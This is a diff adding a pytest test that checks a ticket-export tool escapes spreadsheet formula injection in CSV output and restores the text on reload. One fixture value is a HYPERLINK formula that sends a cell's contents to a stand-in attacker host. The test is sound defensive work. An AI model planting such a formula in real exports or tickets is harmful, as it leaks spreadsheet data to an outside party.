@@ -75,3 +75,21 @@ def test_an_export_that_fails_half_way_leaves_the_previous_one(tmp_path: Path) -
     with pytest.raises(ConnectionError):
         write_reviewed(broken(), out)  # type: ignore[arg-type]
     assert out.read_text(encoding="utf-8") == before and sorted(p.name for p in tmp_path.iterdir()) == ["reviewed.jsonl"]
+
+
+def test_a_formula_in_ticket_text_is_text_in_a_spreadsheet_and_the_ticket_text_in_eval(tmp_path: Path) -> None:
+    """A customer's subject `=HYPERLINK(...)` was written as it came, and Excel ran it when a lead opened the export;
+    now such a cell starts with the spreadsheets' text mark, which `triage eval` drops again."""
+    import csv
+
+    texts = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1 555 0100 called", "-2+3", "@SUM(A1:A9)", "\t=1+1", "'quoted already"]
+    tickets = [reviewed(i, body=text).model_copy(update={"subject": text}) for i, text in enumerate(texts)]
+    out = tmp_path / "reviewed.csv"
+    write_reviewed(tickets, out)
+    with out.open(encoding="utf-8", newline="") as fh:
+        cells = [cell for row in csv.DictReader(fh) for cell in (row["subject"], row["body"])]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    rows = load_rows(out, ["subject", "body"], {"service": "service"})
+    assert [r.text for r in rows] == [f"{t.strip()}\n\n{t.strip()}" for t in texts]  # load_rows strips each cell
+    write_reviewed(tickets, tmp_path / "reviewed.jsonl")  # JSONL is no spreadsheet: written as it is
+    assert [r.text for r in load_rows(tmp_path / "reviewed.jsonl", ["subject", "body"], {"service": "service"})] == [r.text for r in rows]
